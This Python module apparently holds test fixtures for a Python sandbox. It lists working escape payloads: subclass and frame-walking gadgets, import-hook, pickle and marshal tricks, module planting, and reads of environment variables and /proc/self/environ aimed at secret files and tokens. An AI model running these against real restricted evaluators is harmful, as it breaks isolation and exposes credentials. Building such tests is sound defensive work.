"""Attempts by Python's own means: attribute gadgets, import hooks, secrets of the environment.

The gadgets need no import and no builtin but the few that restricted evaluators leave: they are
why `exec` with restricted builtins is no sandbox (CVE-2023-29374).
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType
from typing import Final

_NAMED: Final = (
    "def named(name):\n"
    "    for c in ().__class__.__base__.__subclasses__():\n"
    "        if c.__name__ == name: return c\n"
)
_BUILTIN: Final = _NAMED + "load = named('BuiltinImporter').load_module\n"
_POSIX: Final = _BUILTIN + "posix = load('posix')\n"

GADGETS: Final[Mapping[str, str]] = MappingProxyType(
    {
        "loader_reads": _NAMED + "print(named('FileLoader')('a', 'b').get_data(inputs['secret']))",
        "builtin_importer": _POSIX + "print(posix.read(posix.open(inputs['secret'], 0), 99))",
        "io_subclass": _NAMED
        + "io = [c for c in named('_IOBase').__subclasses__() if c.__name__ == '_RawIOBase'][0]\n"
        "file = [c for c in io.__subclasses__() if c.__name__ == 'FileIO'][0]\n"
        "print(file(inputs['secret']).read())",
        "module_of_loader": _NAMED + "kept = named('FileLoader').get_data.__globals__['_io']\n"
        "print(kept.open(inputs['secret']).read())",
        "sys_modules": _NAMED + "kept = named('FileLoader').get_data.__globals__['sys'].modules\n"
        "print(kept['builtins'].open(inputs['secret']).read())",
        "import_function": _NAMED + "take = named('BuiltinImporter').load_module\n"
        "print(take('_io').open(inputs['secret']).read())",
        "frame_of_generator": "def made():\n"
        "    yield kept.gi_frame.f_back.f_back.f_globals\n"
        "kept = made()\n"
        "for at in kept:\n"
        "    b = at['__builtins__']\n"
        "    b = b if isinstance(b, dict) else b.__dict__\n"
        "    print(b['open'](inputs['secret']).read())",
        "frame_of_error": "try: 1 / 0\n"
        "except ZeroDivisionError as e:\n"
        "    at = e.__traceback__.tb_frame.f_back.f_globals['__builtins__']\n"
        "    at = at if isinstance(at, dict) else at.__dict__\n"
        "    print(at['open'](inputs['secret']).read())",
        "self_of_builtin": "print(print.__self__.open(inputs['secret']).read())",
        "self_of_len": "print(len.__self__.__dict__['open'](inputs['secret']).read())",
        "mro_of_text": "c = ''.__class__.__mro__[1].__subclasses__()\n"
        "print([x for x in c if x.__name__ == 'FileLoader'][0]('a', 'b')"
        ".get_data(inputs['secret']))",
        "getattribute": "base = object.__getattribute__((), '__class__').__base__\n"
        "print([x for x in base.__subclasses__() if 'FileLoader' == x.__name__][0]('a', 'b')"
        ".get_data(inputs['secret']))",
        "format_string": _NAMED + "class Shows:\n"
        "    def __format__(self, spec):\n"
        "        return str(named('FileLoader')('a', 'b').get_data(inputs['secret']))\n"
        "print('{0:x}'.format(Shows()))",
        "system_listing": _POSIX + "print(posix.listdir(inputs['vault']))",
    }
)

HOOKS: Final[Mapping[str, str]] = MappingProxyType(
    {
        "path_entry": "import sys; sys.path.insert(0, inputs['vault'])\n"
        "import kept; print(kept.TOKEN)",
        "spec_of_file": "import importlib.util as u\n"
        "s = u.spec_from_file_location('k', inputs['vault'] + '/kept.py')\n"
        "m = u.module_from_spec(s); s.loader.exec_module(m); print(m.TOKEN)",
        "source_loader": "from importlib.machinery import SourceFileLoader\n"
        "print(SourceFileLoader('k', inputs['vault'] + '/kept.py').get_data(inputs['secret']))",
        "run_path": "import runpy; print(runpy.run_path(inputs['vault'] + '/kept.py')['TOKEN'])",
        "finder": "import sys\n"
        "class Finds:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        print(open(inputs['secret']).read())\n"
        "sys.meta_path.insert(0, Finds())\n"
        "try: import nothing_such\n"
        "except ImportError: pass",
        "path_hook": "import sys\n"
        "def hook(path): print(open(inputs['secret']).read()); raise ImportError\n"
        "sys.path_hooks.insert(0, hook); sys.path.insert(0, inputs['tmp'] + '/none')\n"
        "try: import nothing_such\n"
        "except ImportError: pass",
        "pickle": "import pickle\n"
        "class Opens:\n"
        "    def __reduce__(self): return (open, (inputs['secret'],))\n"
        "print(pickle.loads(pickle.dumps(Opens())).read())",
        "marshalled": "import marshal\n"
        "made = marshal.dumps(compile('print(open(p).read())', 'x', 'exec'))\n"
        "exec(marshal.loads(made), {'p': inputs['secret']})",
        "plant_module": "open(inputs['public'] + '/json.py', 'w').write('x')",
        "site_folder": "import site\n"
        "open(inputs['vault'] + '/k.pth', 'w').write('import os\\n')\n"
        "site.addsitedir(inputs['vault'])",
    }
)

SECRETS: Final[Mapping[str, str]] = MappingProxyType(
    {
        "environ": "import os; print(dict(os.environ))",
        "environ_bytes": "import os; print(dict(os.environb))",
        "environ_posix": "import posix; print(posix.environ)",
        "environ_libc": "import ctypes\n"
        "C = ctypes.CDLL(None); C.getenv.restype = ctypes.c_char_p\n"
        "print(C.getenv(b'DESK_TOKEN'))",
        "environ_child": "import subprocess\n"
        "print(subprocess.run(['env'], capture_output=True).stdout)",
        "environ_proc": "print(open('/proc/self/environ').read())",
        "environ_parent": "import os; print(open(f'/proc/{os.getppid()}/environ').read())",
    }
)
